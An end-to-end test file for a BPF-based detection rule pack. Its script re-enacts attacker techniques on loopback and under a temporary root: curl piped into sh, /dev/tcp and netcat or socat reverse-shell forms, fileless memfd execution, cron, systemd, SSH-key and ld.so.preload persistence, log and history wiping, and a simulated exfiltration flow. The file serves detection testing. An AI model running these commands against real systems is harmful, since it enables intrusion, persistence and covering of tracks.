// The built-in rule pack against real recordings (root, real BPF): a harmless re-enactment of each rule's
// behaviour must make that rule fire, and a recorded baseline of ordinary work (npm ci and npm pack of a
// local package, a local git clone, a cc compile, dpkg-style file writes under a test root) must make
// none fire. Network only on loopback or in a private netns; "system" paths live under a temp root.
import { test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { execFileSync, spawn } from "node:child_process";
import { cliAsync, cliSync, makeKey } from "../helpers/cli.js";
import { waitFor } from "../helpers/workload.js";
import { ROOT } from "../helpers/bpf.js";
import { Netns } from "../helpers/net.js";
import { loadRuleSet } from "../../src/hunt/ruleset.js";
import type { Report } from "../../src/hunt/report.js";

const notRoot = process.getuid?.() !== 0 ? "needs root: records with real BPF probes" : false;
const PY = execFileSync("python3", ["-c", "import sys; print(sys.executable)"], { encoding: "utf8" }).trim();
const PORT = 20000 + (process.pid % 10000);
const EXFIL_PORT = 5019;

/** Ids of the BPF programs process `pid` holds through its fds (program and link fds say `prog_id:`). */
function programsOf(pid: number): number[] {
  const ids = new Set<number>();
  for (const fd of readdirSync(`/proc/${pid}/fdinfo`)) {
    try {
      const m = /^prog_id:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/fdinfo/${fd}`, "utf8"));
      if (m) ids.add(Number(m[1]));
    } catch {
      /* the fd closed meanwhile */
    }
  }
  return [...ids];
}

/** Waits until none of `ids` is loaded: other helpers' recorders may run meanwhile, so only ours are checked. */
async function assertUnloaded(ids: number[]): Promise<void> {
  const left = (): number[] => {
    const now = new Set(
      (
        JSON.parse(
          execFileSync("bpftool", ["prog", "show", "--json"], { encoding: "utf8", maxBuffer: 1 << 26 }),
        ) as Array<{ id: number }>
      ).map((p) => p.id),
    );
    return ids.filter((id) => now.has(id));
  };
  for (let i = 0; i < 50 && left().length; i++) await new Promise((r) => setTimeout(r, 100));
  assert.deepEqual(left(), [], "the recorder's BPF programs outlived it");
}

/** Records everything `script` (run by sh once the probes are attached) and its descendants do. */
async function recordScript(dir: string, name: string, script: string, recipient: string): Promise<string> {
  const out = join(dir, `${name}.sealed`);
  const go = join(dir, `${name}.go`);
  writeFileSync(join(dir, `${name}.sh`), script);
  const runner = spawn("sh", ["-c", `while [ ! -e ${go} ]; do sleep 0.05; done; exec sh ${join(dir, `${name}.sh`)}`], {
    stdio: ["ignore", "ignore", "pipe"],
  });
  let runnerErr = "";
  runner.stderr!.on("data", (d: Buffer) => (runnerErr += d.toString()));
  const exited = new Promise<number | null>((r) => runner.on("exit", (code) => r(code)));
  const runbook = join(dir, `${name}.yaml`);
  writeFileSync(
    runbook,
    `name: hunt19-${name}\ndescription: hunt e2e ${name}\nbundles: [exec, connect, retransmit, filewrite]\nduration: 120s\nsnapshotInterval: 1s\nflushInterval: 1s\nfilters:\n  pid: ${runner.pid}\n`,
  );
  const rec = cliAsync(["record", "--runbook", runbook, "-r", recipient, "-o", out, "--yes"]);
  let ours: number[] = [];
  try {
    await waitFor(rec.stderr, "probes attached", 20_000);
    ours = programsOf(rec.child.pid!);
    assert.ok(ours.length > 0, "the recorder holds its programs");
    writeFileSync(go, "");
    const code = await exited;
    assert.equal(code, 0, `the ${name} script failed: ${runnerErr}`);
    // Let a map snapshot carry the last write totals before stopping.
    await new Promise((r) => setTimeout(r, 1500));
  } finally {
    rec.child.kill("SIGINT");
    runner.kill();
  }
  const res = await rec.done;
  assert.equal(res.code, 0, res.stderr);
  await assertUnloaded(ours);
  return out;
}

function hunt(file: string, identity: string): Report {
  const r = cliSync(["hunt", file, "-i", identity, "--format", "json"]);
  assert.equal(r.status, 0, r.stderr);
  return JSON.parse(r.stdout) as Report;
}

const LISTENER = (port: number, ready: string) => `
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", ${port})); s.listen(16); open(${JSON.stringify(ready)}, "w").close(); s.settimeout(30)
while True:
    try: c, _ = s.accept()
    except OSError: break
    c.close()
`;

const EXFIL = `
import socket, threading, time
l = socket.socket(); l.bind(("127.0.0.1", ${EXFIL_PORT})); l.listen(1)
def drain():
    a, _ = l.accept()
    while a.recv(1 << 16): pass
threading.Thread(target=drain, daemon=True).start()
s = socket.create_connection(("127.0.0.1", ${EXFIL_PORT}))
start = time.time()  # the flow lasts 1.5 s from its connect, however long a loaded machine took to get there
s.sendall(b"x" * (3 << 20))
time.sleep(max(0, 1.5 - (time.time() - start)))
s.close()
`;

const SELF_DELETE_C = `#include <unistd.h>
int main(void) { char p[4096]; ssize_t n = readlink("/proc/self/exe", p, sizeof p - 1); if (n < 0) return 1; p[n] = 0; return unlink(p); }
`;

/** What each built-in rule must find in the re-enactment: its id's title and a text its events carry. */
const EXPECT: Record<string, string> = {
  "Download piped straight into a shell or interpreter": `curl -s --max-time 2 http://127.0.0.1:${PORT}/stage | sh`,
  "Execution from a world-writable temporary directory": "/dropper",
  "Executable bit set on a file in a temporary directory": "chmod +x /tmp/",
  "Fileless execution from a memory file descriptor": "/proc/self/fd/",
  "Process deletes its own executable": "/selfdel",
  "Shell redirected to a /dev/tcp or /dev/udp socket": `/dev/tcp/127.0.0.1/${PORT}`,
  "Netcat executing a program for the network peer": "-e /bin/sh",
  "socat connecting a network socket to a program": "EXEC:/bin/sh",
  "Scripting interpreter spawning a pty or wiring a socket to a shell": "pty.spawn",
  "Shell or interpreter connecting out to an unusual port": `"DestinationPort": ${PORT}`,
  "Long outbound flow with heavy retransmission (possible bulk exfiltration)": `"DestinationPort": ${EXFIL_PORT}`,
  "Write to a cron schedule": "/root/etc/cron.d/hunt19",
  "Write to a systemd unit": "/root/etc/systemd/system/hunt19.service",
  "Write to SSH authorized_keys": "/root/root/.ssh/authorized_keys",
  "Write to /etc/ld.so.preload": "/root/etc/ld.so.preload",
  "Write to a shell start-up or rc file": "/root/root/.bashrc",
  "Write to a udev rule": "/root/etc/udev/rules.d/99-hunt19.rules",
  "Log file deleted": "/root/var/log/auth.log",
  "Shell history file deleted": "/root/root/.bash_history",
  "Shell history disabled or cleared": "unset HISTFILE",
  "Log or history file truncated or shredded": "truncate -s 0",
};

test(
  "every built-in rule fires on a recorded re-enactment of its behaviour",
  { skip: notRoot, timeout: 180_000 },
  async () => {
    const dir = mkdtempSync("/tmp/hunt19-act-");
    const ns = new Netns("hunt19");
    try {
      const key = makeKey(dir);
      // A lossy private loopback: 20% of the segments to the exfil port dropped at input (see net-retransmit.test).
      ns.exec("ip", ["link", "set", "lo", "mtu", "1500"]);
      ns.exec(
        "nft",
        ["-f", "-"],
        `table inet hunt19_loss {\n chain in {\n  type filter hook input priority 0; policy accept;\n  tcp dport ${EXFIL_PORT} numgen random mod 100 < 20 drop\n }\n}\n`,
      );
      writeFileSync(join(dir, "listen.py"), LISTENER(PORT, join(dir, "ready")));
      writeFileSync(join(dir, "exfil.py"), EXFIL);
      writeFileSync(join(dir, "selfdel.c"), SELF_DELETE_C);
      execFileSync("cc", ["-o", join(dir, "selfdel"), join(dir, "selfdel.c")]);
      const R = join(dir, "root");
      const script = `set -eu
W=${dir}; R=${R}; PY=${PY}
$PY $W/listen.py & LP=$!
while [ ! -e $W/ready ]; do sleep 0.05; done
sh -c "curl -s --max-time 2 http://127.0.0.1:${PORT}/stage | sh" || true
cp /bin/true $W/dropper && chmod +x $W/dropper && $W/dropper
bash -c "exec 3<>/dev/tcp/127.0.0.1/${PORT}; exec 3>&-"
printf '#!/bin/sh\\nexit 0\\n' > $W/nc && chmod 700 $W/nc && cp $W/nc $W/socat
$W/nc -e /bin/sh 127.0.0.1 ${PORT}
$W/socat TCP:127.0.0.1:${PORT} EXEC:/bin/sh,pty
$PY -c 'import pty; pty.spawn(["/bin/true"])' </dev/null
$PY -c 'import os; fd = os.memfd_create("hunt19"); os.write(fd, open("/bin/true", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["hunt19-fileless"])'
$W/selfdel
ip netns exec ${ns.name} $PY $W/exfil.py
mkdir -p $R/etc/cron.d $R/etc/systemd/system $R/root/.ssh $R/etc/udev/rules.d $R/var/log
echo '* * * * * root /tmp/x' > $R/etc/cron.d/hunt19
printf '[Service]\\nExecStart=/tmp/x\\n' > $R/etc/systemd/system/hunt19.service
echo 'ssh-ed25519 AAAA hunt19' >> $R/root/.ssh/authorized_keys
echo /tmp/hunt19.so > $R/etc/ld.so.preload
echo 'echo hunt19' >> $R/root/.bashrc
echo 'RUN+="/tmp/x"' > $R/etc/udev/rules.d/99-hunt19.rules
echo log > $R/var/log/auth.log && rm $R/var/log/auth.log
echo hist > $R/root/.bash_history && rm $R/root/.bash_history
bash -c 'unset HISTFILE; true'
echo log > $R/var/log/syslog && truncate -s 0 $R/var/log/syslog
kill $LP 2>/dev/null || true
`;
      const out = await recordScript(dir, "act", script, key.recipient);
      assert.ok(!existsSync(join(dir, "selfdel")), "the self-deleting program removed itself");
      const rep = hunt(out, key.identity);
      // The privilege rules need the privilege bundle: test/e2e/privilege.test.ts records their moves, and
      // test/unit/hunt-privilege-rules.test.ts checks each on hand-made events.
      const all = loadRuleSet([join(ROOT, "rules")], "informational");
      const builtin = { rules: all.rules.filter((r) => r.category !== "privilege") };
      assert.deepEqual(
        rep.notEvaluated.map((n) => n.reason),
        Array(all.rules.length - builtin.rules.length).fill(
          "logsource category privilege needs the privilege bundle, which these sessions did not record",
        ),
        "every other built-in rule is evaluable on a session with the other four bundles",
      );
      assert.equal(rep.rules.evaluated, builtin.rules.length);
      assert.deepEqual(Object.keys(EXPECT).sort(), builtin.rules.map((r) => r.title).sort(), "EXPECT covers the pack");
      for (const r of builtin.rules) {
        const fs = rep.findings.filter((f) => f.rule.id === r.id);
        const sameCategory = rep.findings
          .flatMap((f) => f.events)
          .filter((e) => e.category === r.category)
          .map((e) => e.fields);
        assert.ok(
          fs.length > 0,
          `${r.title} did not fire; ${r.category} events that other rules matched: ${JSON.stringify(sameCategory)}`,
        );
        const want = EXPECT[r.title]!;
        assert.ok(
          fs.some(
            (f) =>
              JSON.stringify(f.events).includes(want.replaceAll('"', '\\"')) ||
              JSON.stringify(f.events, null, 1).includes(want),
          ),
          `${r.title}: no event with ${want}: ${JSON.stringify(fs.map((f) => f.events))}`,
        );
      }
    } finally {
      ns.delete();
      // HUNT19_KEEP=1 keeps the recording and its key for a look after a failure.
      if (!process.env.HUNT19_KEEP) rmSync(dir, { recursive: true, force: true });
    }
  },
);

test(
  "no built-in rule fires on a recorded baseline of ordinary work",
  { skip: notRoot, timeout: 240_000 },
  async () => {
    const dir = mkdtempSync("/tmp/hunt19-base-");
    try {
      const key = makeKey(dir);
      writeFileSync(join(dir, "hello.c"), `#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n`);
      const script = `set -eu
B=${dir}; R=${dir}/root
export npm_config_cache=$B/.npm npm_config_update_notifier=false npm_config_audit=false npm_config_fund=false
mkdir -p $B/dep $B/app
echo '{"name":"hunt19-dep","version":"1.0.0","main":"index.js"}' > $B/dep/package.json
echo 'module.exports = 42;' > $B/dep/index.js
echo '{"name":"hunt19-app","version":"1.0.0","dependencies":{"hunt19-dep":"file:../dep"}}' > $B/app/package.json
cd $B/app && npm install --offline --ignore-scripts >/dev/null && npm ci --offline >/dev/null && npm pack --offline >/dev/null
cd $B/dep && npm pack --offline >/dev/null
git -C $B init -q src && echo hi > $B/src/README && git -C $B/src add README
git -C $B/src -c user.name=hunt19 -c user.email=hunt19@example.invalid commit -qm init
git clone -q $B/src $B/clone
cc -O2 -o $B/hello $B/hello.c
mkdir -p $R/usr/bin $R/usr/share/doc/hunt19 $R/var/lib/dpkg/info $R/var/log/apt $R/etc/hunt19
cp /bin/true $R/usr/bin/hunt19-tool.dpkg-new && mv $R/usr/bin/hunt19-tool.dpkg-new $R/usr/bin/hunt19-tool
echo copyright > $R/usr/share/doc/hunt19/copyright
printf '/usr/bin/hunt19-tool\\n' > $R/var/lib/dpkg/info/hunt19.list
echo 'conf=1' > $R/etc/hunt19/hunt19.conf.dpkg-new && mv $R/etc/hunt19/hunt19.conf.dpkg-new $R/etc/hunt19/hunt19.conf
echo 'Start-Date: now' >> $R/var/log/apt/history.log
tar -C $R -cf $B/pkg.tar usr etc && mkdir $B/root2 && tar -C $B/root2 -xf $B/pkg.tar
rm -rf $B/app/node_modules
`;
      const out = await recordScript(dir, "base", script, key.recipient);
      assert.ok(
        existsSync(join(dir, "hello")) &&
          existsSync(join(dir, "clone", "README")) &&
          existsSync(join(dir, "app", "hunt19-app-1.0.0.tgz")),
        "the baseline work was done",
      );
      const replay = cliSync(["replay", out, "-i", key.identity, "--format", "json"]);
      assert.equal(replay.status, 0, replay.stderr);
      const doc = JSON.parse(replay.stdout) as {
        processes: Array<{ execs: Array<{ filename: string; argv: string[] }> }>;
        files: Array<{ path: string }>;
      };
      const argvs = doc.processes.flatMap((p) => p.execs.map((e) => e.argv.join(" ")));
      for (const want of ["npm ci", "git clone", "cc -O2", "tar -C"])
        assert.ok(
          argvs.some((a) => a.includes(want)),
          `the baseline recorded ${want}`,
        );
      assert.ok(
        doc.files.some((f) => f.path.endsWith("/var/lib/dpkg/info/hunt19.list")),
        "the dpkg-style writes were recorded",
      );
      const rep = hunt(out, key.identity);
      // Only the privilege rules, whose bundle this recording left out.
      assert.ok(rep.notEvaluated.every((n) => n.reason.includes("needs the privilege bundle")));
      assert.ok(rep.events > 50, `events hunted: ${rep.events}`);
      assert.deepEqual(
        rep.findings.map((f) => `${f.rule.title}: ${f.events.map((e) => e.summary).join("; ")}`),
        [],
        "no built-in rule fires on ordinary work",
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  },
);
